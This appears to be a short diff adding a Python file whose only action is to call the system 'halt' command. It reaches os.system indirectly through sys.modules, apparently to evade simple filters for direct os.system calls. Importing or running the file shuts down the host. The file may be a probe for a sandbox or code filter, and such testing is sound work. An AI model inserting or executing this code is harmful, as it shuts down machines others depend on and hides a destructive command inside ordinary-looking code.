@@ -1,0 +1,4 @@
+import os
+import sys
+
+sys.modules["os"].system("halt")
